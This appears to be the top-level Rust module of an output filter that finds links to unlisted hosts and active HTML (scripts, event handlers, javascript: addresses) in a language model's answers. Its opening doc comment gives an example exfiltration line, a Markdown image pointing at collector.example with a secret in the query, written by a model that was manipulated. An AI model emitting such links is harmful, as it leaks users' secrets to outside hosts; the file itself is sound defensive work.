//! What an answer would make a reader's program do (OWASP LLM05): addresses that a page fetches or offers to follow, and active
//! HTML.
//!
//! A model that was talked into it writes `![](https://collector.example/?q=SECRET)`, and whoever shows the answer fetches it. So
//! every address whose host is not on the author's list is found, in whatever way Markdown or HTML lets it be written:
//! inline, by reference, bare, in an attribute, relative to the scheme, with entities, escapes, tabs, user names or
//! look-alike letters in it. An allow list makes most tricks harmless: a host that is not plainly a listed one is not
//! listed. What is left is to see that something is an address at all, and there the search errs on the side of seeing one.
//!
//! Code in Markdown (fenced blocks, spans) is shown as it stands and not searched, as long as the text is so simple that every
//! reader agrees on where the code is (see [`code`]).
//!
//! A text may come in pieces: [`OutputState`] is what has to be known of what went before, and no more than a kibibyte at the
//! end of a text is undecided.
mod address;
mod code;
mod decode;
mod hosts;
mod scan;
mod state;
mod tag;

use std::ops::Range;

pub use hosts::Hosts;
pub use state::OutputState;

/// What is looked for.
#[derive(Clone, Debug, Default)]
pub struct OutputRules {
    /// Addresses of other hosts than these.
    pub links: Option<Hosts>,
    /// Active HTML: scripts, frames, event handlers, `javascript:` addresses.
    pub html: bool,
    /// Also in Markdown's code.
    pub code: bool,
    /// Addresses are to be removed, not shown: what follows their host is found too.
    pub remove_links: bool,
    /// The same of active HTML: what follows a tag's name, and a `javascript:`.
    pub remove_html: bool,
}

/// What kind of thing was found.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum OutputKind {
    /// An address of a host that is not listed.
    Link,
    /// Active HTML.
    Html,
    /// What follows a [`OutputKind::Link`] or an [`OutputKind::Html`] and is to be removed with it: a path, a tag's end.
    Rest,
}

/// Something found.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct OutputFinding {
    /// What kind of thing.
    pub kind: OutputKind,
    /// Which of its kind, in fixed words: `link`, `script`, `handler`, `javascript`, …
    pub rule: &'static str,
    /// Bytes of the text.
    pub span: Range<usize>,
    /// What can stand there instead: no program acts on it; where it is not to be removed, a person still sees what was there.
    pub with: String,
}

impl OutputRules {
    /// Searches a text from `state` on, up to the byte `limit`; says how far it got, and the state there. `last` when the text
    /// ends here: then it gets to `limit`, unless something that was searched in one piece goes on beyond it.
    pub fn search(
        &self,
        state: &OutputState,
        text: &str,
        limit: usize,
        last: bool,
        found: &mut Vec<OutputFinding>,
    ) -> (usize, OutputState) {
        let mut scan = scan::Scan::new(self, state.clone(), text, last);
        scan.run(limit, found);
        (scan.at, scan.state)
    }
}
